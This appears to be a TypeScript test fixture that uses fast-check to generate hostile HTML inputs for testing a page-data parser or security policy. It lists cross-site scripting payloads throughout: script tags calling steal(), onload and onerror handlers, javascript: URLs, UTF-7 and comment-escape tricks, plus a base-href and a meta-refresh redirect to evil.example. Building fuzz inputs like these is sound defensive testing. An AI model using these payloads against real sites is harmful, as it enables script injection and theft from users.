import fc from "fast-check";

/** What a block may begin with, to come before the policy or to be read otherwise than it looks. */
export const HOSTILE_STARTS = [
  "",
  " \n\t",
  "\uFEFF",
  "\uFEFF\uFEFF<!doctype html>",
  "<!doctype html>",
  '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN" ">">',
  "<!-- <head> --><!-- --!><html><head>",
  "<!--><script>steal()</script>-->",
  "<!---><script>steal()</script>-->",
  "<!-- a",
  "<?xml version='1.0'?><script>steal()</script>",
  "<![CDATA[<script>steal()</script>]]>",
  '<html lang="a>b" class=c data-x=\'<head>\'><head id="x>"><script>steal()</script>',
  "<HTML><HEAD><SCRIPT>steal()</SCRIPT>",
  "<header><script>steal()</script>",
  "<body onload=steal()>",
  "<frameset onload=steal()><frame src=javascript:steal()>",
  "<svg onload=steal()><script>steal()</script>",
  "<template><head></template><script>steal()</script>",
  "text <script>steal()</script>",
  "</head><script>steal()</script>",
  "</html></body><script>steal()</script>",
  "<title><script>steal()</script>",
  "<noscript><style></noscript><script>steal()</script>",
  "<base href=https://evil.example><script src=a></script>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<meta charset=utf-7>+ADw-script+AD4-steal()+ADw-/script+AD4-",
  "\0<script>steal()</script>",
  "</style></script></title></textarea><script>steal()</script>",
  "--></script><script>steal()</script>",
];

const DATA = '<script type="application/json" id="page-data">';
const PARTS = [
  ...[DATA, DATA, DATA, "</script>", "</script>", "<script>", "<style>", "</style>", "<title>", "</title>"],
  ...["<textarea>", "</textarea>", "<select>", "</select>", "<option>", "<svg>", "</svg>", "<svg/>", "<path>", "<g>"],
  ...["</g>", "<text>", "<foreignObject>", "<desc>", "<math>", "<mtext>", "</math>", "<template>", "</template>"],
  ...["<col>", "<table>", "<tr>", "<td>", "</table>", "<caption>", "<frameset>", "<noscript>", "<!--", "-->"],
  ...[
    "<!-- a -->",
    "<!doctype html>",
    "<html a=b>",
    "<head>",
    "</head>",
    "<body>",
    "</body>",
    "</html>",
    "<p>",
    "</p>",
  ],
  ...[
    '<div title="',
    '">',
    "'>",
    '"',
    "'",
    "<a b='",
    "<b/>",
    "</br>",
    "<x y=>",
    "<",
    "</",
    "<?",
    "<![CDATA[",
    "]]>",
    ">",
  ],
  ...["a", " ", "\n", "\f", "\0", "<form>", "<button>", "<input>", "<object>", "<h1>", "<font color=x>", "<plaintext>"],
  ...[
    "<iframe>",
    "<xmp>",
    '<script type="application/json" type="a">',
    "<SCRIPT TYPE='application/json'>",
    "<script/>",
  ],
  ...["<style/>", "<title/>", "<rect/>", "<dialog>", "<nobr>", "<ruby>", "<rb>", "<hr>", "<pre>", "<li>"],
];

/** Blocks made of parts that do not fit together, each with data at its end. */
export const hostileBlocks = fc
  .array(fc.constantFrom(...PARTS), { maxLength: 12 })
  .map((parts) => `${parts.join("")}${DATA}{}</script><p>end`);

/** Data that would be code in any other place. */
export const HOSTILE_DATA = `]}<img src=x onerror=steal()><script>steal()<style>"'</p></style></template></select></svg></title></textarea><b>`;
